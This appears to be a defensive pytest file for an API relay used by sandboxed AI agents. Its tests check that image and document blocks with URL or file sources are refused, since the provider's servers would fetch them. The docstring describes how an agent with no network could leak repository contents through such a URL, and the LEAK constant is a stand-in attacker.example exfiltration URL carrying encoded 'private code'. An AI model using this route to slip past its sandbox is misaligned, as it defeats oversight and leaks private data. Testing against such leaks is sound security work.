"""Attacks on the keyless relay through content blocks that name a URL. The Messages API fetches an
image or a document given as `{"source": {"type": "url", "url": ...}}` itself, from the model
provider's servers: a sandboxed agent with no network could put the repository (or anything it read)
into such a URL's query, on the runner's key, or fetch a page of orders that way. Such a block is
refused wherever it sits (a user turn, a tool result, nested), and so is a `file` source (a file of
the runner's organisation, uploaded by someone else); the stand-in model server upstream hears
nothing. Inline (base64, text) sources still go through."""

from __future__ import annotations

import base64
import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anthropic
import pytest

sys.path.insert(0, str(Path(__file__).parent))
from relay_kit import one_request, through_relay

from agentbook.standin.script import load_script
from agentbook.standin.server import StandinServer, running

SCRIPT = """version: 1
model: m
default:  # turn 1 answers a lone user message, turn 2 one that follows a tool call
  turns:
    - text: "ok"
    - text: "ok"
"""
LEAK = "https://attacker.example/collect?d=cHJpdmF0ZSBjb2RlIGZyb20gdGhlIHJlcG8="
PNG = base64.b64encode(bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d"
                                     "49444154789c6360000002000100e221bc330000000049454e44ae426082")).decode()


@pytest.fixture
def standin(tmp_path: Path) -> Iterator[StandinServer]:
    path = tmp_path / "m.script.yaml"
    path.write_text(SCRIPT)
    with running(load_script(path)) as server:
        yield server


def _user(*blocks: dict[str, Any]) -> list[dict[str, Any]]:
    return [{"role": "user", "content": list(blocks)}]


def _tool_result(*blocks: dict[str, Any]) -> list[dict[str, Any]]:
    return [{"role": "user", "content": "read the file"},
            {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_1", "name": "read", "input": {}}]},
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_1", "content": list(blocks)}]}]


URL_IMAGE = {"type": "image", "source": {"type": "url", "url": LEAK}}
URL_DOCUMENT = {"type": "document", "source": {"type": "url", "url": LEAK}}
FILE_DOCUMENT = {"type": "document", "source": {"type": "file", "file_id": "file_011CNha8iCJcU1wXNR6q4V8w"}}
FUTURE_SOURCE = {"type": "image", "source": {"type": "remote_29991231", "href": LEAK}}
NESTED_DOCUMENT = {"type": "document", "source": {"type": "content", "content": [URL_IMAGE]}}


@pytest.mark.parametrize("messages", [
    _user({"type": "text", "text": "describe this"}, URL_IMAGE),
    _user(URL_DOCUMENT),
    _user(FILE_DOCUMENT),
    _user(FUTURE_SOURCE),
    _user(NESTED_DOCUMENT),
    _tool_result({"type": "text", "text": "here"}, URL_IMAGE),
    _tool_result(URL_DOCUMENT),
], ids=["url_image", "url_document", "file_document", "unknown_source_type", "nested_in_a_document",
        "url_image_in_tool_result", "url_document_in_tool_result"])
def test_content_the_models_servers_would_fetch_is_refused(tmp_path: Path, standin: StandinServer,
                                                           messages: list[dict[str, Any]]) -> None:
    _, result, events = through_relay(tmp_path, standin, one_request(messages=messages))
    assert isinstance(result, anthropic.BadRequestError), result
    assert "is not relayed" in str(result)
    assert standin.requests() == []  # upstream heard nothing: no fetch, nothing spent
    refused = [e for e in events if e["event"] == "relay_refused"]
    assert refused and refused[0]["reason"] == "server_fetch"
    assert "attacker.example" not in json.dumps(events)  # the URL (and what it carries) is not kept either


def test_inline_content_still_goes_through(tmp_path: Path, standin: StandinServer) -> None:
    inline = [{"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": PNG}},
              {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": "a note"}},
              {"type": "document", "source": {"type": "content", "content": [{"type": "text", "text": "a note"}]}},
              {"type": "text", "text": f"a URL in plain text is only text: {LEAK}"}]
    _, result, _ = through_relay(tmp_path, standin, one_request(messages=_tool_result(*inline)))
    assert result.content[0].text == "ok"
    sent = standin.requests()[0]["body"]["messages"][2]["content"][0]["content"]
    assert [b["type"] for b in sent] == ["image", "document", "document", "text"]
